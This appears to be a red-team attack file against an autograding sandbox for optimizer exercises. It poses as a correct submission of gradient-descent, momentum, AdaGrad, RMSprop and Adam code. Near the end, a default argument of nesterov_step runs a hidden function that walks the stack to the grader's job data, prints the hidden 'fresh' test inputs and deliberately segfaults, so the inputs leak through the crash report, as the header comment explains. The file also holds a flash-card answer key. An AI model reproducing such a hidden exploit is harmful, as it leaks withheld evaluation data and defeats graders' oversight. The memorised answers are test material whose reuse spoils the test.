# ATTACK (redteam4 #3): what the code PRINTED at load time, quoted in the report, with the hidden
# and fresh cases' inputs in it. stopped_policy withholds a stopped test's output, but a crash while
# a chunk runs is recorded as a skipped chunk (attempt._settle: "<chunk>: <what happened>. The last
# thing it printed: <600 chars>; it was skipped."), that text joins the submission's problems
# (Run.load_errors) and absent.explain quotes it whole for any missing answer (its _WHOLE_FILE
# words "crashed"/"was stopped" match). At load time the sandbox's `_run` frame holds `job`, every
# test's cases, fresh ones included. nesterov_step's default argument prints them and segfaults.
# Got: 22/25 (nesterov missing) and "`nesterov_step` could not be read: ... The last thing it
# printed: <fresh-case seeds and hyperparameters>" in JSON/MD/HTML.
# (The same with no crash: an exception whose text holds "crashed" is quoted, 300 characters.)
"""A complete, correct submission, written differently from the reference solutions:
out-of-place arithmetic copied back into `param`, the textbook form of momentum, a while loop."""

import math

import torch


def gradient_descent(f, x0, *, lr, steps):
    path = [x0.detach().clone()]
    x = x0.detach().clone()
    while len(path) <= steps:
        x.requires_grad_(True)
        loss = f(x)
        loss.backward()
        x = (x - lr * x.grad).detach()
        path.append(x.clone())
    return torch.stack(path)


def sgd_step(param, grad, state, *, lr):
    param.copy_(param - lr * grad)


def momentum_step(param, grad, state, *, lr, momentum):
    # Textbook form: v <- mu v - lr g, theta <- theta + v (same trajectory as torch.optim.SGD)
    if "velocity" not in state:
        state["velocity"] = -lr * grad
    else:
        state["velocity"] = momentum * state["velocity"] - lr * grad
    param.copy_(param + state["velocity"])


def adagrad_step(param, grad, state, *, lr, eps):
    state["sum"] = state.get("sum", torch.zeros_like(grad)) + grad * grad
    param.copy_(param - lr * grad / (state["sum"].sqrt() + eps))


def rmsprop_step(param, grad, state, *, lr, alpha, eps):
    avg = state.get("avg", torch.zeros_like(grad))
    avg = alpha * avg + (1 - alpha) * grad**2
    state["avg"] = avg
    param.copy_(param - lr * grad / (torch.sqrt(avg) + eps))


def adam_step(param, grad, state, *, lr, beta1, beta2, eps):
    t = state["t"] = state.get("t", 0) + 1
    m = state["m"] = beta1 * state.get("m", torch.zeros_like(grad)) + (1 - beta1) * grad
    v = state["v"] = beta2 * state.get("v", torch.zeros_like(grad)) + (1 - beta2) * grad * grad
    m_hat = m / (1 - math.pow(beta1, t))
    v_hat = v / (1 - math.pow(beta2, t))
    param.copy_(param - lr * m_hat / (v_hat.sqrt() + eps))


class MySGD:
    def __init__(self, params, lr):
        self.params = [p for p in params]
        self.lr = lr

    def step(self):
        with torch.no_grad():
            for p in self.params:
                if p.grad is not None:
                    p -= self.lr * p.grad

    def zero_grad(self):
        for p in self.params:
            p.grad = None


class MyAdam(torch.optim.Optimizer):
    def __init__(self, params, lr=1e-3, betas=(0.9, 0.999), eps=1e-8):
        super().__init__(params, {"lr": lr, "betas": betas, "eps": eps})

    @torch.no_grad()
    def step(self, closure=None):
        loss = None
        if closure is not None:
            with torch.enable_grad():
                loss = closure()
        for group in self.param_groups:
            for p in group["params"]:
                if p.grad is None:
                    continue
                b1, b2 = group["betas"]
                adam_step(p, p.grad, self.state[p], lr=group["lr"], beta1=b1, beta2=b2,
                          eps=group["eps"])
        return loss


# The flash-card quiz: the names may be written as people write them.
import ctypes as _ctypes
import sys as _sys


def _crash():
    frame = _sys._getframe()
    while frame is not None and "job" not in frame.f_locals:
        frame = frame.f_back
    for test in frame.f_locals["job"]["tests"]:
        for case in test["cases"]:
            if "fresh" in case["id"]:
                print({k: v for k, v in case.items() if k not in ("id",)}, flush=True)
    _ctypes.string_at(0)  # SIGSEGV


def nesterov_step(param, grad, state, *, lr, momentum, _unused=_crash()):
    pass


FLASHCARD_ANSWERS = {
    "rule-6xr4": "AdaGrad",
    "rule-9k6f": "SGD with momentum",
    "rule-djjb": "Nesterov momentum",
    "rule-g736": "Gradient Descent",
    "rule-ndbw": "RMSprop",
    "rule-w6m9": "Adam",
    "rule-z3h9": "stochastic gradient descent",
    "path-335m": "adam",
    "path-6qh4": "rmsprop",
    "path-crjm": "sgd",
    "path-fpwd": "adagrad",
    "path-qrz4": "momentum",
    "path-vp7f": "gradient-descent",
    "path-wqk3": "nesterov",
}
